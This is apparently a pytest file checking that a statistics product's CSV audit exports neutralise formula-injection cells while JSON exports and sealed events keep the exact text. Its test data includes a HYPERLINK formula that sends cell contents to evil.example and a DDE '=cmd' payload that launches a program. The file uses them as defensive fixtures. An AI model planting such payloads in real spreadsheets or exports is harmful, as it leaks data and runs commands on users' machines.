"""CSV exports no spreadsheet executes (issue 21, part 2): every cell that begins with a
formula character is made inert, the JSON exports and the sealed events keep the exact text,
and a CSV bundle still verifies."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from nextstat_pro import text
from nextstat_pro.audit.export import export_bundle, verify_bundle
from nextstat_pro.audit.proofs import ProofVerificationError
from nextstat_pro.audit.service import verify
from nextstat_pro.csvsafe import write_csv
from nextstat_pro.db.models import AuditEvent
from nextstat_pro.engine.inputs import InputFile
from nextstat_pro.errors import UsageError
from nextstat_pro.examples.generate import histfactory_workspace
from nextstat_pro.hub.service import push
from nextstat_pro.identity.users import create_user, grant_role
from nextstat_pro.instance import Instance
from nextstat_pro.projects import create_project

# OWASP's list: = + - @ tab carriage return.
LEADS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"click")'
STRONG = "quiet lantern orbit velvet 42"


def inert(cell: str) -> bool:
    """What a spreadsheet shows as text: no formula lead (a plain number such as -1.5 is data)."""
    return not cell.startswith(tuple(LEADS)) or re.fullmatch(r"-?[0-9,.]+", cell) is not None


def key_of(inst: Instance) -> str:
    return (inst.home / "witness" / "log.pub").read_text()


def test_write_csv_neutralises_each_formula_lead() -> None:
    rows: list[list[object]] = [[lead + PAYLOAD] for lead in LEADS]
    rows += [["=cmd|' /C calc'!A0"], ["-1.5"], ["plain"], [None], [7]]
    cells = [row[0] for row in csv.reader(io.StringIO(write_csv(["cell"], rows), newline=""))][1:]
    assert all(inert(c) for c in cells)
    assert cells[:6] == ["'" + lead + PAYLOAD for lead in LEADS]
    assert cells[6] == "'=cmd\\|' /C calc'!A0"  # defusedcsv escapes the DDE pipe too
    assert cells[7:] == ["-1.5", "plain", "", "7"]
    text = write_csv(["a", "b"], [["x;=1+2", 1]])
    assert text == '"a","b"\r\n"x;=1+2","1"\r\n'  # quoted: a ';' locale cannot split a cell into a formula


@pytest.fixture
def hostile(sqlite_instance: Instance, monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    """Events whose reasons, printed names, project descriptions and tags begin with each lead."""
    # The services now refuse a tab or CR in such text (docs/security.md, "Text that people read");
    # rows written before that rule still hold them, and the CSV writer must keep them inert.
    monkeypatch.setattr(text, "_check_characters", lambda field, value: None)
    monkeypatch.setattr(text, "clean", lambda field, value: value)  # nor normalised or trimmed then
    inst, admin = sqlite_instance, sqlite_instance.context()
    made: dict[str, list[str]] = {"reasons": [], "names": [], "tags": []}
    for i, lead in enumerate(LEADS):
        name = f"{lead}{PAYLOAD} {i}"
        user = create_user(inst, admin, username=f"user{i}", printed_name=name, password=STRONG,
                           instance_admin=True)
        made["names"].append(user.printed_name)
    for i, lead in enumerate(LEADS):
        ctx = inst.context(f"user{i}")  # the hostile printed name becomes the events' actor name
        reason = f"{lead}1+2 {PAYLOAD}"
        with inst.db.transaction() as s:
            create_project(s, ctx, f"p{i}", f"{lead}{PAYLOAD}")
        grant_role(inst, ctx, "user0", f"p{i}", "viewer", reason)
        made["reasons"].append(reason)
        tag = f"k{i}={lead}{PAYLOAD}"
        workspace = json.dumps(histfactory_workspace(seed=i)).encode()
        push(inst, ctx, "default", "model", f"m{i}", InputFile.from_bytes("workspace", "ws.json", workspace),
             semver="1.0.0", tags=[tag])
        made["tags"].append(tag.partition("=")[2])
    return made


def test_project_names_cannot_begin_with_a_formula_lead(sqlite_instance: Instance) -> None:
    for lead in LEADS:
        with pytest.raises(UsageError), sqlite_instance.db.transaction() as s:
            create_project(s, sqlite_instance.context(), f"{lead}sum", "")


def test_csv_cells_are_inert_and_json_keeps_the_exact_text(sqlite_instance: Instance, hostile: dict[str, list[str]],
                                                            tmp_path: Path) -> None:
    inst = sqlite_instance
    export_bundle(inst, inst.context(), tmp_path / "csv", "csv")
    export_bundle(inst, inst.context(), tmp_path / "json", "json")
    with (tmp_path / "csv" / "events.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    # Every cell of every row is inert, whatever it holds.
    assert all(inert(cell) for row in rows for cell in row.values())
    reasons = [r["reason"] for r in rows if r["action"] == "role.granted"]
    assert reasons == ["'" + r for r in hostile["reasons"]]
    # The tab and CR leads of a printed name are trimmed by create_user; the others become actors.
    actors = {r["actor_name"] for r in rows}
    for name in hostile["names"]:
        assert ("'" + name) in actors if name.startswith(tuple(LEADS)) else name in actors
    # Tags and descriptions travel inside the JSON cells, which begin with '{' (exact text: the
    # fixture's rows predate the trimming rule).
    pushed = [json.loads(r["after"]) for r in rows if r["action"] == "hub.model.pushed"]
    assert [a["tags"] for a in pushed] == [{f"k{i}": t} for i, t in enumerate(hostile["tags"])]
    # The JSON and JSONL exports and the sealed events keep the exact text.
    events = json.loads((tmp_path / "json" / "events.json").read_bytes().decode())
    assert [e["reason"] for e in events if e["action"] == "role.granted"] == hostile["reasons"]
    lines = [json.loads(line) for line in (tmp_path / "csv" / "events.jsonl").read_bytes().decode().splitlines()]
    assert lines == events[:len(lines)]  # the JSON bundle, made second, also holds the first export's event
    with inst.db.transaction() as s:
        bodies = s.scalars(select(AuditEvent.body).where(AuditEvent.action == "role.granted")
                           .order_by(AuditEvent.seq)).all()
    assert [json.loads(b)["reason"] for b in bodies] == hostile["reasons"]  # the sealed, hashed text
    assert verify(inst, inst.context()).ok
    # Both bundles verify offline.
    assert "verified" in verify_bundle(tmp_path / "csv", key_of(inst))
    assert "warning" not in verify_bundle(tmp_path / "csv", key_of(inst))
    assert "verified" in verify_bundle(tmp_path / "json", key_of(inst))


def test_csv_bundle_verifier_checks_every_cell(sqlite_instance: Instance, hostile: dict[str, list[str]],
                                               tmp_path: Path) -> None:
    inst = sqlite_instance
    export_bundle(inst, inst.context(), tmp_path / "b", "csv")
    path = tmp_path / "b" / "events.csv"
    good = path.read_bytes()
    # A spreadsheet's formula put back into a reason cell: no longer the verified events' view.
    path.write_bytes(good.replace(b"\"'=1+2", b"\"=1+2", 1))
    with pytest.raises(ProofVerificationError, match="events.csv differs"):
        verify_bundle(tmp_path / "b", key_of(inst))
    # A bundle written before neutralisation (plain csv.writer) still verifies, with a warning.
    events = [json.loads(line) for line in (tmp_path / "b" / "events.jsonl").read_text().splitlines()]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(next(csv.reader(io.StringIO(good.decode(), newline=""))))
    for e in events:
        writer.writerow([e["seq"], e["event_id"], e["ts"], e["actor"]["id"], e["actor"]["name"], e["action"],
                         e["target"]["type"], e["target"]["id"], e["project"] or "", e["reason"] or "",
                         e["context"]["interface"], e["context"]["client"] or "", json.dumps(e["before"]),
                         json.dumps(e["after"]), e["prev_hash"], e["hash"]])
    path.write_bytes(out.getvalue().encode())
    assert "predates formula neutralisation" in verify_bundle(tmp_path / "b", key_of(inst))
    path.write_bytes(good)
    assert "warning" not in verify_bundle(tmp_path / "b", key_of(inst))


def test_cli_csv_export_verifies(cli, sqlite_instance: Instance, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    inst = sqlite_instance
    export_bundle(inst, inst.context(), tmp_path / "b", "csv")
    r = cli("audit", "verify", "--bundle", str(tmp_path / "b"), "--key", str(inst.home / "witness" / "log.pub"))
    assert r.code == 0 and "bundle verified" in r.out
